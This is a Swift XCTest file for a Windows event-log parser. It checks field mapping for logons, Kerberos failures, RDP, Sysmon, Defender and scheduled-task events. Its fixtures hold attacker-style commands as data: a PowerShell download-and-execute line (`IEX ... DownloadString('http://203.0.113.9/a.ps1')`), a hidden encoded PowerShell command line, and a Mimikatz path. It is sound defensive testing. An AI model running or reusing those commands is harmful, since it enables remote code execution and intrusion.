@testable import AuditLake
import EVTX
import Foundation
import XCTest

/// Windows events: the XML reader at every split, the golden samples, field checks, EVTX end to end.
final class WindowsTests: XCTestCase {
    let expected = packageRoot.appendingPathComponent("samples/windows/expected")

    func testConvertMatchesGoldenAndSchema() throws {
        let golden = try assertConvertMatchesGolden("windows", summary: "records read 37 = events written 34 + duplicates skipped 1 + rejected 2")
        try assertValidEvents(golden)
    }

    private func events() throws -> [String: [String: Any]] {
        let golden = try String(contentsOf: expected.appendingPathComponent("convert.ndjson"), encoding: .utf8)
        var out: [String: [String: Any]] = [:]
        for line in golden.split(separator: "\n") {
            let e = try JSONSerialization.jsonObject(with: Data(line.utf8)) as! [String: Any]
            out[((e["event"] as! [String: Any])["code"] as! String)] = e
        }
        return out
    }

    /// `%%NNNN` insertion strings: found at any place (a pair across an eight-byte step too),
    /// expanded where known, kept where not.
    func testInsertionStrings() {
        func has(_ s: String) -> Bool { Array(s.utf8).withUnsafeBytes { hasDoublePercent($0) } }
        XCTAssertTrue(has("%%1833"))
        XCTAssertTrue(has("1234567%%"))
        XCTAssertTrue(has("1234567%%abc"))
        XCTAssertTrue(has("abcdefghijklmno%%"))
        XCTAssertFalse(has("1234567%1%3456789%"))
        XCTAssertFalse(has("%"))
        XCTAssertFalse(has(""))
        XCTAssertEqual(WindowsTables.expand("\r\n\t%%2080 %%9999 %%%1537"), "\r\n\tAccount Disabled %%9999 %%%1537")
        XCTAssertEqual(WindowsTables.expand("%%1537"), "DELETE")
        XCTAssertEqual(WindowsTables.expand("%%9999"), nil)
        XCTAssertEqual(WindowsTables.expand("%%01537"), nil)
        XCTAssertEqual(WindowsTables.expand("no codes"), nil)
    }

    /// Subject and target apart; logon details; failure texts; processes; groups; UserData.
    func testFieldMapping() throws {
        let e = try events()
        let logon = e["4624"]!
        let user = logon["user"] as! [String: Any]
        XCTAssertEqual(user["name"] as? String, "WS-FIN-042$")
        XCTAssertEqual((user["target"] as! [String: Any])["name"] as? String, "alice")
        XCTAssertEqual((logon["source"] as! [String: Any])["ip"] as? String, "10.20.30.41")
        XCTAssertEqual((logon["source"] as! [String: Any])["port"] as? Int, 52114)
        let winlog = logon["winlog"] as! [String: Any]
        XCTAssertEqual((winlog["logon"] as! [String: Any])["type"] as? String, "RemoteInteractive")
        XCTAssertEqual((winlog["event_data_text"] as! [String: Any])["ImpersonationLevel"] as? String, "Impersonation")
        XCTAssertEqual((winlog["event_data"] as! [String: Any])["ImpersonationLevel"] as? String, "%%1833")
        XCTAssertEqual(logon["@timestamp"] as? String, "2026-11-20T09:15:02.123456700Z")

        let failed = e["4625"]!
        XCTAssertEqual((failed["event"] as! [String: Any])["outcome"] as? String, "failure")
        let failure = ((failed["winlog"] as! [String: Any])["logon"] as! [String: Any])["failure"] as! [String: Any]
        XCTAssertEqual(failure["status"] as? String, "Bad user name or authentication information")
        XCTAssertEqual(failure["sub_status"] as? String, "Correct user name, wrong password")
        XCTAssertEqual(failure["reason"] as? String, "Unknown user name or bad password.")
        XCTAssertNil(failed["process"])

        let process = e["4688"]!["process"] as! [String: Any]
        XCTAssertEqual(process["pid"] as? Int, 8000)
        XCTAssertEqual(process["name"] as? String, "powershell.exe")
        XCTAssertEqual(process["command_line"] as? String, "powershell.exe -nop -w hidden -enc SQBFAFgA & \"x\" <y>")
        XCTAssertEqual((process["parent"] as! [String: Any])["pid"] as? Int, 6668)

        let group = e["4732"]!
        XCTAssertEqual((group["group"] as! [String: Any])["name"] as? String, "Administrators")
        XCTAssertEqual(((group["user"] as! [String: Any])["target"] as! [String: Any])["name"] as? String, "Mallory")

        let cleared = e["1102"]!
        XCTAssertEqual((cleared["user"] as! [String: Any])["name"] as? String, "alice")
        XCTAssertNotNil((cleared["winlog"] as! [String: Any])["user_data"])

        let service = e["7045"]!
        XCTAssertEqual((service["event"] as! [String: Any])["action"] as? String, "service-installed")
        XCTAssertEqual((service["service"] as! [String: Any])["name"] as? String, "PSEXESVC")

        let impossible = e["4634"]!
        XCTAssertEqual(impossible["@timestamp"] as? String, "1970-01-01T00:00:00.000Z")
        XCTAssertEqual((impossible["winlog"] as! [String: Any])["time_created_note"] as? String,
                       "TimeCreated 30828-09-14T02:48:05.4775807Z is not a time; @timestamp is set to 1970-01-01T00:00:00Z")
        // Unnamed <Data> of a forwarded event, named by the event's field order.
        let forwarded = e["4648"]!
        XCTAssertEqual(((forwarded["winlog"] as! [String: Any])["event_data"] as! [String: Any])["SubjectUserName"] as? String, "alice")
        XCTAssertEqual((forwarded["user"] as! [String: Any])["name"] as? String, "alice")
        // Get-WinEvent JSON: positional Properties, a SID object, a /Date(ms)/ time.
        let locked = e["4740"]!
        XCTAssertEqual(locked["@timestamp"] as? String, "2025-11-20T09:15:00.123Z")
        XCTAssertEqual(((locked["user"] as! [String: Any])["target"] as! [String: Any])["id"] as? String, "S-1-5-21-1004336348-1177238915-682003330-1120")
        XCTAssertEqual((locked["user"] as! [String: Any])["name"] as? String, "DC01$")

        // An RDP session reconnected: its account as a logon's, the client's address, the logon id.
        let reconnected = e["4778"]!
        XCTAssertEqual((reconnected["event"] as! [String: Any])["action"] as? String, "session-reconnected")
        XCTAssertEqual((reconnected["event"] as! [String: Any])["category"] as? [String], ["authentication", "session"])
        XCTAssertNil((reconnected["user"] as! [String: Any])["name"])
        XCTAssertEqual(((reconnected["user"] as! [String: Any])["target"] as! [String: Any])["name"] as? String, "alice")
        XCTAssertEqual(((reconnected["user"] as! [String: Any])["target"] as! [String: Any])["domain"] as? String, "CORP")
        XCTAssertEqual((reconnected["source"] as! [String: Any])["ip"] as? String, "10.20.30.41")
        XCTAssertEqual(((reconnected["winlog"] as! [String: Any])["logon"] as! [String: Any])["id"] as? String, "0x1a2b3c4d")
        // `LOCAL` (a console session) is not an address.
        let disconnected = e["4779"]!
        XCTAssertEqual((disconnected["event"] as! [String: Any])["type"] as? [String], ["end"])
        XCTAssertNil(disconnected["source"])
        XCTAssertEqual(((disconnected["winlog"] as! [String: Any])["event_data"] as! [String: Any])["ClientAddress"] as? String, "LOCAL")
        // An account renamed goes by its new name; the old one stays in event_data.
        let renamed = e["4781"]!
        XCTAssertEqual(((renamed["user"] as! [String: Any])["target"] as! [String: Any])["name"] as? String, "svc-bkp01")
        XCTAssertEqual((renamed["user"] as! [String: Any])["name"] as? String, "admin-bob")
        XCTAssertEqual(((renamed["winlog"] as! [String: Any])["event_data"] as! [String: Any])["OldTargetUserName"] as? String, "svc-backup")
        // A group's members enumerated: the group, and the process that asked.
        let enumerated = e["4799"]!
        XCTAssertEqual((enumerated["group"] as! [String: Any])["name"] as? String, "Administrators")
        XCTAssertEqual((enumerated["process"] as! [String: Any])["name"] as? String, "net1.exe")
        XCTAssertEqual((enumerated["process"] as! [String: Any])["pid"] as? Int, 8000)
        // A distribution group's member added: the group, and the member by its CN.
        let distribution = e["4746"]!
        XCTAssertEqual((distribution["event"] as! [String: Any])["action"] as? String, "added-member-to-distribution-group")
        XCTAssertEqual((distribution["group"] as! [String: Any])["name"] as? String, "all-staff")
        XCTAssertEqual(((distribution["user"] as! [String: Any])["target"] as! [String: Any])["name"] as? String, "Mallory")

        // Kerberos failures say what their result code means; a success has no failure.
        func failureStatus(_ code: String) -> String? {
            (((e[code]!["winlog"] as! [String: Any])["logon"] as? [String: Any])?["failure"] as? [String: Any])?["status"] as? String
        }
        XCTAssertEqual(failureStatus("4771"), "KDC_ERR_PREAUTH_FAILED: the pre-authentication data was invalid (a wrong password)")
        XCTAssertEqual(failureStatus("4768"), "KDC_ERR_C_PRINCIPAL_UNKNOWN: the client is not in the Kerberos database (no such account)")
        XCTAssertNil(failureStatus("4769"))
        XCTAssertEqual((e["4769"]!["event"] as! [String: Any])["outcome"] as? String, "success")
        XCTAssertEqual((e["4768"]!["event"] as! [String: Any])["outcome"] as? String, "failure")
        XCTAssertEqual(WindowsTables.kerberosStatus["0x1a"], "KDC_ERR_SERVER_NOMATCH: the requested server and ticket do not match")

        // Remote Desktop outside Security: who came in, from where; and a log cleared.
        func action(_ code: String) -> String? { (e[code]!["event"] as! [String: Any])["action"] as? String }
        func target(_ code: String) -> [String: String]? { (e[code]!["user"] as? [String: Any])?["target"] as? [String: String] }
        func sourceIP(_ code: String) -> String? { (e[code]!["source"] as? [String: Any])?["ip"] as? String }
        XCTAssertEqual(action("1149"), "remote-desktop-authenticated")
        XCTAssertEqual(target("1149"), ["name": "alice", "domain": "CORP"])
        XCTAssertEqual(sourceIP("1149"), "10.20.30.41")
        XCTAssertEqual(action("21"), "remote-desktop-logon")
        XCTAssertEqual(target("21"), ["name": "alice", "domain": "CORP"])
        XCTAssertEqual(sourceIP("21"), "10.20.30.41")
        XCTAssertEqual(action("24"), "remote-desktop-disconnected")
        XCTAssertEqual(action("25"), "remote-desktop-reconnected")
        XCTAssertNil(sourceIP("25"))  // LOCAL
        XCTAssertEqual(action("140"), "remote-desktop-logon-failed")
        XCTAssertEqual((e["140"]!["event"] as! [String: Any])["outcome"] as? String, "failure")
        XCTAssertEqual(sourceIP("140"), "203.0.113.77")
        XCTAssertEqual(action("104"), "log-cleared")
        XCTAssertEqual((e["104"]!["user"] as! [String: Any])["name"] as? String, "admin-bob")
        XCTAssertEqual((e["104"]!["event"] as! [String: Any])["dataset"] as? String, "windows.other")
        // PowerShell: a script block logged (its script's path), and one started.
        XCTAssertEqual(action("4104"), "powershell-script-block-logged")
        XCTAssertEqual((e["4104"]!["file"] as! [String: Any])["path"] as? String, "C:\\Users\\alice\\Downloads\\run.ps1")
        XCTAssertEqual(((e["4104"]!["winlog"] as! [String: Any])["event_data"] as! [String: Any])["ScriptBlockText"] as? String,
                       "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.9/a.ps1')")
        XCTAssertEqual((e["4105"]!["event"] as! [String: Any])["type"] as? [String], ["start"])
        // Defender: the file detected (its first resource, without `file:_`), the process that
        // touched it and the user; real-time protection turned off.
        let detected = e["1116"]!
        XCTAssertEqual(action("1116"), "malware-detected")
        XCTAssertEqual((detected["event"] as! [String: Any])["category"] as? [String], ["malware", "intrusion_detection"])
        XCTAssertEqual((detected["file"] as! [String: Any])["path"] as? String, "C:\\Users\\alice\\Downloads\\mimikatz_trunk\\x64\\mimikatz.exe")
        XCTAssertEqual((detected["process"] as! [String: Any])["name"] as? String, "explorer.exe")
        XCTAssertEqual(detected["user"] as? [String: String], ["name": "alice", "domain": "CORP"])
        XCTAssertEqual(((detected["winlog"] as! [String: Any])["event_data"] as! [String: Any])["Threat Name"] as? String, "HackTool:Win32/Mimikatz.D")
        XCTAssertEqual(action("5001"), "realtime-protection-disabled")
        // Persistence: a scheduled task registered (the account it runs as), its action started
        // (the program and the engine's pid), deleted; a WMI event consumer bound.
        XCTAssertEqual(action("106"), "scheduled-task-registered")
        XCTAssertEqual(e["106"]!["user"] as? [String: String], ["name": "alice", "domain": "CORP"])
        XCTAssertEqual(action("200"), "scheduled-task-action-started")
        XCTAssertEqual((e["200"]!["process"] as! [String: Any])["executable"] as? String, "C:\\Users\\Public\\svc-update.exe")
        XCTAssertEqual((e["200"]!["process"] as! [String: Any])["pid"] as? Int, 7344)
        XCTAssertEqual(action("141"), "scheduled-task-deleted")
        // TaskScheduler's 140 (a task updated) is not RdpCoreTS's 140 (a failed RDP logon).
        let golden = try String(contentsOf: expected.appendingPathComponent("convert.ndjson"), encoding: .utf8)
        let updated = try golden.split(separator: "\n").filter { $0.contains("\"action\":\"scheduled-task-updated\"") }
            .map { try JSONSerialization.jsonObject(with: Data($0.utf8)) as! [String: Any] }
        XCTAssertEqual(updated.count, 1)
        XCTAssertNil((updated.first?["event"] as? [String: Any])?["outcome"])
        XCTAssertEqual(updated.first?["user"] as? [String: String], ["name": "alice", "domain": "CORP"])
        XCTAssertEqual(action("5861"), "wmi-event-consumer-registered")
        XCTAssertEqual(((e["5861"]!["winlog"] as! [String: Any])["user_data"] as! [String: Any])["CONSUMER"] as? String,
                       "CommandLineEventConsumer=\"UpdaterConsumer\"")
    }

    /// Every category and type the event-id tables give is one the schema allows.
    func testEventIDCategoriesAreInTheSchema() throws {
        let schema = try JSONSerialization.jsonObject(with: Data(contentsOf: packageRoot.appendingPathComponent("schemas/event.schema.json"))) as! [String: Any]
        func allowed(_ field: String) -> Set<String> {
            let event = (schema["properties"] as! [String: Any])["event"] as! [String: Any]
            let items = ((event["properties"] as! [String: Any])[field] as! [String: Any])["items"] as! [String: Any]
            return Set(items["enum"] as! [String])
        }
        let categories = allowed("category"), types = allowed("type")
        XCTAssertGreaterThan(WindowsTables.security.count, 100)
        for (id, entry) in WindowsTables.security {
            XCTAssertTrue(categories.isSuperset(of: entry.category), "\(id) \(entry.category)")
            XCTAssertTrue(types.isSuperset(of: entry.type), "\(id) \(entry.type)")
        }
        for (id, entry) in WindowsMapper.sysmonKinds {
            XCTAssertTrue(categories.isSuperset(of: entry.category), "Sysmon \(id)")
            XCTAssertTrue(types.isSuperset(of: entry.type), "Sysmon \(id)")
        }
        // The other channels' table, and its lookup by number then provider.
        for (provider, kinds) in WindowsMapper.channelKinds {
            for (code, entry) in kinds {
                XCTAssertTrue(categories.isSuperset(of: entry.category), "\(provider) \(code)")
                XCTAssertTrue(types.isSuperset(of: entry.type), "\(provider) \(code)")
                XCTAssertEqual(WindowsMapper.channelKind(provider, code)?.action, entry.action, "\(provider) \(code)")
                XCTAssertNil(WindowsMapper.channelKind(provider + "X", code))
                XCTAssertNil(WindowsMapper.channelKind(provider, code + 100_000))
            }
        }
        XCTAssertNil(WindowsMapper.channelKind("Microsoft-Windows-PowerShell", -1))
        XCTAssertNil(WindowsMapper.channelKind("Microsoft-Windows-PowerShell", 1149))
    }

    /// The XML reader gives the same events for the sample split at every byte boundary.
    func testXMLReaderAtEverySplit() throws {
        let bytes = Array(try Data(contentsOf: packageRoot.appendingPathComponent("samples/windows/input/wevtutil-security.xml")))
        func read(_ cuts: [Int]) -> [String] {
            let reader = EventXMLReader()
            var out: [String] = []
            func drain() {
                while let step = reader.next() {
                    switch step {
                    case .event(let e, let offset, let line):
                        out.append("E \(offset) \(line) \(WindowsEvent(element: e)?.eventID ?? "?") \(WindowsEvent(element: e)?.data.count ?? -1)")
                    case .failure(let reason, let offset, let line): out.append("F \(offset) \(line) \(reason)")
                    }
                }
            }
            for (a, b) in zip(cuts, cuts.dropFirst()) {
                bytes[a..<b].withUnsafeBytes { reader.append($0) }
                drain()
            }
            reader.finish()
            drain()
            return out
        }
        let whole = read([0, bytes.count])
        XCTAssertEqual(whole.count, 6)
        XCTAssertEqual(whole.last, "F 6671 7 XML cut short: the element is not closed before the end of the input")
        for k in stride(from: 0, through: bytes.count, by: 1) {
            XCTAssertEqual(read([0, k, bytes.count]), whole, "split at \(k)")
        }
        XCTAssertEqual(read(Array(0...bytes.count)), whole)
    }

    /// EVTX end to end: counts at least the reference's, damage as rejects, VSS copies deduplicated.
    func testEVTXIngest() throws {
        guard let samples = sharedFixturesURL("evtx/samples") else { throw XCTSkip("../shared/fixtures/evtx is missing: EVTX ingest not checked") }
        let lake = try makeTemporaryFolder(self).appendingPathComponent("lake")
        let security = samples.appendingPathComponent("security.evtx").path
        let damaged = samples.appendingPathComponent("sample_with_a_bad_chunk_magic.evtx").path
        let result = try runAuditLake(["ingest", security, damaged, security, "--out", lake.path])
        XCTAssertEqual(result.status, 1, result.stderr)
        XCTAssertTrue(result.stderr.contains("records read 4794 = events written 2531 + duplicates skipped 2261 + rejected 2"), result.stderr)
        let db = try SQLiteConnection(path: lake.appendingPathComponent("index.sqlite").path, readOnly: true)
        let s = try db.prepare("SELECT COUNT(*) FROM events WHERE dataset = 'windows.security' AND code = '4624'")
        XCTAssertTrue(try s.step())
        XCTAssertGreaterThan(s.int64(at: 0), 100)
    }

    /// `convert` takes EVTX lines encoded in its chunk workers: each is exactly the line the
    /// encoder makes of the event mapped from the element tree, with the file's path and the
    /// record's offset (the pipeline's `log.*` fields).
    func testEVTXConvertLinesAreTheEncodersLines() throws {
        guard let samples = sharedFixturesURL("evtx/samples") else { throw XCTSkip("../shared/fixtures/evtx is missing: worker-encoded lines not checked") }
        let path = samples.appendingPathComponent("security.evtx").path
        let result = try runAuditLake(["convert", path])
        XCTAssertEqual(result.status, 0, result.stderr)
        let lines = result.stdout.split(separator: "\n", omittingEmptySubsequences: false).dropLast().map(String.init)
        let data = try Data(contentsOf: URL(fileURLWithPath: path))
        var expected: [String] = []
        var mapper = WindowsMapper()
        var encoder = EventEncoder()
        var offset = EVTXFileHeader.size, index = 0
        while offset + EVTXChunk.size <= data.count {
            let chunk = data.withUnsafeBytes { EVTXChunk.parse(UnsafeRawBufferPointer(rebasing: $0[offset..<(offset + EVTXChunk.size)]), index: index, fileOffset: offset) }
            for record in chunk.records {
                guard case .success(var e) = mapper.map(record.event, fallbackTime: nil) else { continue }
                e.logPath = path
                e.logOffset = record.fileOffset
                expected.append(String(decoding: encoder.encode(e).dropLast(), as: UTF8.self))
            }
            offset += EVTXChunk.size
            index += 1
        }
        XCTAssertEqual(expected.count, 2261)
        XCTAssertEqual(lines.count, expected.count)
        for (k, (line, want)) in zip(lines, expected).enumerated() where line != want {
            XCTFail("line \(k + 1) differs:\n\(line)\n\(want)")
            break
        }
    }

    /// A re-exported log renumbers record headers: Event/System wins, and the event says so.
    func testHeaderAndSystemDisagree() throws {
        guard let samples = sharedFixturesURL("evtx/samples") else { throw XCTSkip("../shared/fixtures/evtx is missing: header/System check not run") }
        let result = try runAuditLake(["convert", samples.appendingPathComponent("new-user-security.evtx").path])
        XCTAssertEqual(result.status, 0)
        let first = try JSONSerialization.jsonObject(with: Data(result.stdout.split(separator: "\n")[0].utf8)) as! [String: Any]
        let winlog = first["winlog"] as! [String: Any]
        XCTAssertEqual(winlog["record_id"] as? String, "111")
        XCTAssertEqual(winlog["record_header_note"] as? String, "record header says record 1; EventRecordID 111 from Event/System is used")
    }

    /// Sysmon 1 (process) and 3 (network) from a real log.
    func testSysmonMapping() throws {
        guard let samples = sharedFixturesURL("evtx/samples") else { throw XCTSkip("../shared/fixtures/evtx is missing: Sysmon mapping not checked") }
        let result = try runAuditLake(["convert", samples.appendingPathComponent("sysmon.evtx").path])
        XCTAssertEqual(result.status, 1)  // 8 damaged chunks, as the reference parser reports
        var firstOfCode: [String: [String: Any]] = [:]
        for line in result.stdout.split(separator: "\n") {
            let e = try JSONSerialization.jsonObject(with: Data(line.utf8)) as! [String: Any]
            let code = (e["event"] as! [String: Any])["code"] as! String
            if firstOfCode[code] == nil { firstOfCode[code] = e }
        }
        let process = firstOfCode["1"]!["process"] as! [String: Any]
        XCTAssertEqual(process["name"] as? String, "PING.EXE")
        XCTAssertEqual(process["pid"] as? Int, 9112)
        XCTAssertEqual(firstOfCode["1"]!["user"] as? [String: String], ["name": "SYSTEM", "domain": "NT AUTHORITY"])
        let network = firstOfCode["3"]!
        XCTAssertEqual((network["source"] as! [String: Any])["ip"] as? String, "192.168.2.128")
        XCTAssertEqual((network["event"] as! [String: Any])["category"] as? [String], ["network"])
        // A process opened (here lsass.exe by svchost.exe): the one that opened it is process.*.
        let access = firstOfCode["10"]!
        XCTAssertEqual((access["event"] as! [String: Any])["action"] as? String, "process-accessed")
        let accessing = access["process"] as! [String: Any]
        XCTAssertEqual(accessing["pid"] as? Int, 780)
        XCTAssertEqual(accessing["name"] as? String, "svchost.exe")
        XCTAssertEqual(accessing["executable"] as? String, "C:\\Windows\\system32\\svchost.exe")
        XCTAssertEqual(((access["winlog"] as! [String: Any])["event_data"] as! [String: Any])["TargetImage"] as? String, "C:\\Windows\\system32\\lsass.exe")
        // An alternate data stream written: the file, and the process that wrote it.
        let stream = firstOfCode["15"]!
        XCTAssertEqual((stream["event"] as! [String: Any])["category"] as? [String], ["file"])
        XCTAssertEqual((stream["file"] as! [String: Any])["path"] as? String, "C:\\Users\\tony\\Downloads\\ProcessMonitor.zip")
        XCTAssertEqual((stream["process"] as! [String: Any])["name"] as? String, "firefox.exe")
        XCTAssertEqual((firstOfCode["16"]!["event"] as! [String: Any])["action"] as? String, "sysmon-configuration-changed")
    }

    /// Event ids are compared as numbers only when written as plain decimal.
    func testEventNumberIsPlainDecimalOnly() {
        XCTAssertEqual(eventNumber("4624"), 4624)
        XCTAssertEqual(eventNumber("0"), 0)
        XCTAssertEqual(eventNumber("7"), 7)
        for odd in ["", "04624", " 4624", "4624 ", "-1", "+3", "4e3", "1234567890", "٤٦٢٤"] {
            XCTAssertEqual(eventNumber(odd), -1, odd)
        }
    }

    /// The event-id table by number holds exactly the facts of the tables it is built from.
    func testEventIDFactsByNumber() {
        let ids = Set(WindowsTables.security.keys).union(WindowsTables.groupEvents).union(WindowsTables.statusOutcome)
            .union(WindowsMapper.sysmonKinds.keys)
        for id in ids {
            guard let info = WindowsTables.info(eventNumber(id)) else { return XCTFail("no facts for \(id)") }
            XCTAssertEqual(info.security?.action, WindowsTables.security[id]?.action, id)
            XCTAssertEqual(info.isGroup, WindowsTables.groupEvents.contains(id), id)
            XCTAssertEqual(info.decidedByStatus, WindowsTables.statusOutcome.contains(id), id)
            XCTAssertEqual(info.sysmon?.action, WindowsMapper.sysmonKinds[id]?.action, id)
        }
        XCTAssertEqual(WindowsTables.byNumber.compactMap { $0 }.count, ids.count)
        XCTAssertTrue(WindowsTables.info(4728)!.isGroup)
        XCTAssertTrue(WindowsTables.info(4776)!.decidedByStatus)
        XCTAssertNil(WindowsTables.info(4623))
        XCTAssertNil(WindowsTables.info(-1))  // "04624" and other odd spellings
        XCTAssertNil(WindowsTables.info(1 << 40))
    }

    /// A data item's name is found by its exact bytes: every known name, and nothing near one.
    func testDataNameByBytes() {
        for name in DataName.allCases {
            let found = Array(name.name.utf8).withUnsafeBytes { DataName(bytes: $0) }
            XCTAssertEqual(found, name, name.name)
        }
        for odd in ["", "status", "STATUS", "Statu", "Status ", "SubjectUserSid\0", "TargetUserNam", "Imag", "UserX", "param1", "Param4"] {
            XCTAssertNil(Array(odd.utf8).withUnsafeBytes { DataName(bytes: $0) }, odd)
        }
    }

    /// A Splunk CSV export: each row's `_raw` read as what it holds (Windows XML, JSON, a log
    /// line); a row whose XML is cut, or whose `_raw` is empty or missing, is a reject naming it.
    func testSplunkExport() throws {
        let folder = try makeTemporaryFolder(self)
        let xml = try String(contentsOf: packageRoot.appendingPathComponent("samples/windows/input/wevtutil-persistence.xml"), encoding: .utf8)
            .split(separator: "\r\n").first.map(String.init) ?? ""
        func cell(_ text: String) -> String { "\"" + text.replacingOccurrences(of: "\"", with: "\"\"") + "\"" }
        let rows = [
            "_time,host,\"_raw\",sourcetype",
            "t1,WS,\(cell(xml)),XmlWinEventLog",
            "t2,WS,\(cell("{\"winlog\":{\"channel\":\"Security\",\"event_id\":4634,\"provider_name\":\"Microsoft-Windows-Security-Auditing\",\"computer_name\":\"WS\",\"record_id\":7},\"@timestamp\":\"2026-11-20T10:00:00Z\"}")),_json",
            "t3,WS,\(cell("<86>Nov 20 10:00:01 web01 sshd[811]: Accepted password for alice from 203.0.113.5 port 51234 ssh2")),linux_secure",
            "t4,WS,\(cell(String(xml.prefix(200)))),XmlWinEventLog",
            "t5,WS,\"\",empty",
            "t6,WS",
        ]
        let path = folder.appendingPathComponent("export.csv").path
        try Data(rows.joined(separator: "\r\n").utf8).write(to: URL(fileURLWithPath: path))
        // What the reader hands on, a line each: where, and what kind of item.
        func read(_ path: String) throws -> (counts: InputCounts, items: [String]) {
            var items: [String] = []
            let counts = try InputReader().read(path) { item in
                switch item {
                case .windows(let event, _, let line, _): items.append("\(line) windows \(event.eventID)")
                case .record(_, _, let line, _): items.append("\(line) json")
                case .line(_, _, let line, _): items.append("\(line) line")
                case .reject(let r): items.append("\(r.line) reject \(r.reason)")
                default: items.append("unexpected")
                }
            }
            return (counts, items)
        }
        let (counts, items) = try read(path)
        XCTAssertEqual(counts.format, "splunk")
        XCTAssertEqual(counts.records, 6)
        XCTAssertEqual(counts.rejects, 3)
        XCTAssertEqual(items, [
            "2 windows 106", "3 json", "4 line",
            "5 reject _raw is not a whole Windows event: XML cut short: the element is not closed before the end of the input",
            "6 reject _raw is empty", "7 reject row has 2 fields, no _raw (column 3)",
        ])
        // The same events in a JSON export: one object a line, `_raw` in `result` or at the top.
        func json(_ text: String) -> String {
            String(decoding: try! JSONSerialization.data(withJSONObject: text, options: .fragmentsAllowed), as: UTF8.self)
        }
        let lines = [
            "{\"preview\":false,\"offset\":0,\"result\":{\"_time\":\"t1\",\"_raw\":\(json(xml))}}",
            "{\"preview\":false,\"offset\":1,\"result\":{\"_raw\":\(json("Nov 20 10:00:01 web01 sshd[811]: Accepted password for alice from 203.0.113.5 port 51234 ssh2"))}}",
            "{\"_time\":\"t3\",\"_raw\":\(json("{\"winlog\":{\"channel\":\"Security\",\"event_id\":4634}}"))}",
            "{\"preview\":false,\"offset\":3,\"result\":{\"_raw\":\"\"}}",
        ]
        let jsonPath = folder.appendingPathComponent("export.json").path
        try Data(lines.joined(separator: "\n").utf8).write(to: URL(fileURLWithPath: jsonPath))
        let (jsonCounts, jsonItems) = try read(jsonPath)
        XCTAssertEqual(jsonCounts.format, "json")
        XCTAssertEqual(jsonCounts.records, 4)
        XCTAssertEqual(jsonCounts.rejects, 1)
        XCTAssertEqual(jsonItems, ["1 windows 106", "2 line", "3 json", "4 reject _raw is empty"])
    }

    /// `%%NNNN` codes are expanded for the Security log only: another provider's codes are its own.
    func testInsertionStringsOnlyForSecurity() throws {
        var mapper = WindowsMapper()
        var encoder = EventEncoder()
        func text(channel: String, provider: String) throws -> Any? {
            var w = WindowsEvent()
            w.provider = provider
            w.channel = channel
            w.eventID = "4624"
            w.timeCreated = "2024-01-01T00:00:00Z"
            w.data = [("ImpersonationLevel", "%%1833")]
            let line = try encoder.encode(mapper.map(w).get())
            let event = try JSONSerialization.jsonObject(with: Data(line)) as! [String: Any]
            return (event["winlog"] as! [String: Any])["event_data_text"]
        }
        XCTAssertEqual(try text(channel: "Security", provider: "Microsoft-Windows-Security-Auditing") as? [String: String],
                       ["ImpersonationLevel": "Impersonation"])
        XCTAssertNil(try text(channel: "Microsoft-Windows-TaskScheduler/Operational", provider: "Microsoft-Windows-TaskScheduler"))
    }

    /// Sysmon's `User` splits at its first backslash; one at either end leaves it whole.
    func testSysmonUserSplit() {
        var mapper = WindowsMapper()
        func user(_ text: String) -> UserFields? {
            var w = WindowsEvent()
            w.provider = "Microsoft-Windows-Sysmon"
            w.eventID = "1"
            w.timeCreated = "2024-01-01T00:00:00Z"
            w.data = [("User", text)]
            guard case .success(let e) = mapper.map(w) else { return nil }
            return e.user
        }
        XCTAssertEqual(user("NT AUTHORITY\\SYSTEM"), UserFields(name: "SYSTEM", domain: "NT AUTHORITY"))
        XCTAssertEqual(user("A\\B\\C"), UserFields(name: "B\\C", domain: "A"))
        XCTAssertEqual(user("\\SYSTEM"), UserFields(name: "\\SYSTEM"))
        XCTAssertEqual(user("DOM\\"), UserFields(name: "DOM\\"))
        XCTAssertEqual(user("alice"), UserFields(name: "alice"))
    }

    /// Random damage to event XML never traps or hangs; every record is an event or a failure.
    func testDamagedXMLNeverTraps() throws {
        let bytes = Array(try Data(contentsOf: packageRoot.appendingPathComponent("samples/windows/input/wevtutil-security.xml")))
        var random = XorShift(0x9E37_79B9_7F4A_7C15)
        let specials = Array("<>/=\"'&;!-[]?".utf8)
        for _ in 0..<400 {
            var damaged = bytes
            for _ in 0..<(1 + random.next(6)) { damaged[random.next(damaged.count)] = specials[random.next(specials.count)] }
            let reader = EventXMLReader()
            damaged.withUnsafeBytes { reader.append($0) }
            reader.finish()
            var steps = 0
            while reader.next() != nil {
                steps += 1
                XCTAssertLessThan(steps, 100, "the reader must make progress")
                if steps >= 100 { break }
            }
            XCTAssertGreaterThan(steps, 0)
        }
    }
}

/// Every sample of the EVTX fixture folder (EVTX, XML, JSON) through the real binary: no trap on
/// any of them (impossible times, damaged chunks), every record an event, a duplicate (several
/// samples are copies of others) or a reject.
final class EVTXConvertAllTests: XCTestCase {
    func testEverySampleConvertsWithNothingLost() throws {
        guard let folder = sharedFixturesURL("evtx/samples") else { throw XCTSkip("../shared/fixtures/evtx is missing: EVTX samples not converted") }
        let out = try makeTemporaryFolder(self).appendingPathComponent("all.ndjson")
        let result = try runAuditLake(["convert", folder.path, "-o", out.path])
        XCTAssertEqual(result.status, 1, result.stderr)  // some samples are damaged on purpose
        XCTAssertTrue(result.stderr.contains("records read 21884 = events written 16557 + duplicates skipped 5290 + rejected 37"), result.stderr)
        let rejects = result.stderr.split(separator: "\n").filter { $0.hasPrefix("reject: ") && $0.contains(": EVTX chunk ") }
        XCTAssertEqual(rejects.count, 37)
        // Records left from an older generation of a chunk that point at templates written over since.
        XCTAssertEqual(rejects.filter { $0.contains(": the template instance at chunk offset ") && $0.contains(" names template 0x") }.count, 23)
        XCTAssertEqual(rejects.filter { $0.contains("; reading resumes at the next whole record, chunk offset ") }.count, 4)
        let lines = try String(contentsOf: out, encoding: .utf8).split(separator: "\n")
        XCTAssertEqual(lines.count, 16557)
        // The records read after damage carry a note saying where it was.
        XCTAssertEqual(lines.filter { $0.contains("\"record_header_note\":\"read after damage at chunk offset ") }.count, 174)
        // FILETIME 0 (1601) and garbage times: the record header's time, and a note saying so.
        XCTAssertEqual(lines.filter { $0.contains("\"time_created_note\":\"TimeCreated ") }.count, 3)
        // Categorised Security events: all but these ids (Elastic categorises none of them either).
        var uncategorised: [String: Int] = [:], actions: [String: Int] = [:]
        for line in lines {
            let event = try JSONSerialization.jsonObject(with: Data(line.utf8)) as! [String: Any]
            let fields = event["event"] as! [String: Any]
            guard fields["dataset"] as? String == "windows.security" else { continue }
